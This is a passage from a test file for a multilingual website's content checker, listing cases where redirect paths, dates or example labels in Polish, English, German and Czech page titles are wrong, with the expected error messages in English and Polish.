      'content/redirects.yaml:13:9  [4].from  „/pl/Miasta/Gliwice” nie jest ścieżką tego serwisu → wpisz ścieżkę bez domeny, małymi literami, od kodu języka, zakończoną / dla strony, np. /pl/miasta/gliwice/',
      'content/redirects.yaml:14:7  [4].to  „https://example.org/” nie jest ścieżką tego serwisu → wpisz ścieżkę bez domeny, małymi literami, od kodu języka, zakończoną / dla strony, np. /pl/miasta/gliwice/',
      'content/redirects.yaml:15:10  [4].since  „20.05.2026” nie jest datą w zapisie RRRR-MM-DD → wpisz 2026-05-20',
    ],
  },
  {
    name: 'an example label written into a title, in Polish and English text files (the site adds it itself)',
    make: (f) =>
      f
        .replace(`${story}/pl.md`, 'title: Historia testowa', 'title: "Przykład: historia testowa"')
        .replace(`${story}/en.md`, 'title: Test story', 'title: Test story (example)'),
    en: [
      'content/stories/test-story/en.md:2:8  title  the title carries the example label “(example)” → write the plain title, “Test story”; mark invented content with example: true in the facts file, and the site adds the label itself',
      'content/stories/test-story/pl.md:2:8  title  the title carries the example label “Przykład:” → write the plain title, “Historia testowa”; mark invented content with example: true in the facts file, and the site adds the label itself',
    ],
    pl: [
      'content/stories/test-story/en.md:2:8  title  tytuł zawiera oznaczenie przykładu „(example)” → wpisz sam tytuł, „Test story”; treść zmyśloną oznacz w pliku faktów przez example: true, a serwis sam doda oznaczenie',
      'content/stories/test-story/pl.md:2:8  title  tytuł zawiera oznaczenie przykładu „Przykład:” → wpisz sam tytuł, „Historia testowa”; treść zmyśloną oznacz w pliku faktów przez example: true, a serwis sam doda oznaczenie',
    ],
  },
  {
    name: 'an example label in another language than the file’s, and in a document’s title in its facts file',
    make: (f) =>
      f
        .replace('offers/test-offer/pl.md', 'title: Teren testowy', 'title: Teren testowy [Příklad]')
        .replace('documents/test-document/document.yaml', 'pl: Dokument testowy', 'pl: "Beispiel – Dokument testowy (ukázka)"'),
    en: [
      'content/documents/test-document/document.yaml:5:7  title.pl  the title carries the example label “Beispiel –” → write the plain title, “Dokument testowy”; mark invented content with example: true in the facts file, and the site adds the label itself',
      'content/offers/test-offer/pl.md:2:8  title  the title carries the example label “[Příklad]” → write the plain title, “Teren testowy”; mark invented content with example: true in the facts file, and the site adds the label itself',
    ],
    pl: [
      'content/documents/test-document/document.yaml:5:7  title.pl  tytuł zawiera oznaczenie przykładu „Beispiel –” → wpisz sam tytuł, „Dokument testowy”; treść zmyśloną oznacz w pliku faktów przez example: true, a serwis sam doda oznaczenie',
      'content/offers/test-offer/pl.md:2:8  title  tytuł zawiera oznaczenie przykładu „[Příklad]” → wpisz sam tytuł, „Teren testowy”; treść zmyśloną oznacz w pliku faktów przez example: true, a serwis sam doda oznaczenie',
    ],
  },
  {
    name: 'an example label in a German and a Czech translation’s title',
    make: (f) =>
      f
        .write(`${story}/de.md`, '---\ntitle: "Beispiel: Testgeschichte"\nsummary: Eine Testgeschichte mit Bild und Link.\n---\n')
        .write(`${story}/cs.md`, '---\ntitle: Testovací příběh (ukázka)\nsummary: Testovací příběh s obrázkem a odkazem.\n---\n'),
    en: [
      'content/stories/test-story/cs.md:2:8  title  the title carries the example label “(ukázka)” → write the plain title, “Testovací příběh”; mark invented content with example: true in the facts file, and the site adds the label itself',
      'content/stories/test-story/de.md:2:8  title  the title carries the example label “Beispiel:” → write the plain title, “Testgeschichte”; mark invented content with example: true in the facts file, and the site adds the label itself',
    ],
    pl: [
      'content/stories/test-story/cs.md:2:8  title  tytuł zawiera oznaczenie przykładu „(ukázka)” → wpisz sam tytuł, „Testovací příběh”; treść zmyśloną oznacz w pliku faktów przez example: true, a serwis sam doda oznaczenie',
      'content/stories/test-story/de.md:2:8  title  tytuł zawiera oznaczenie przykładu „Beispiel:” → wpisz sam tytuł, „Testgeschichte”; treść zmyśloną oznacz w pliku faktów przez example: true, a serwis sam doda oznaczenie',
    ],
  },
];
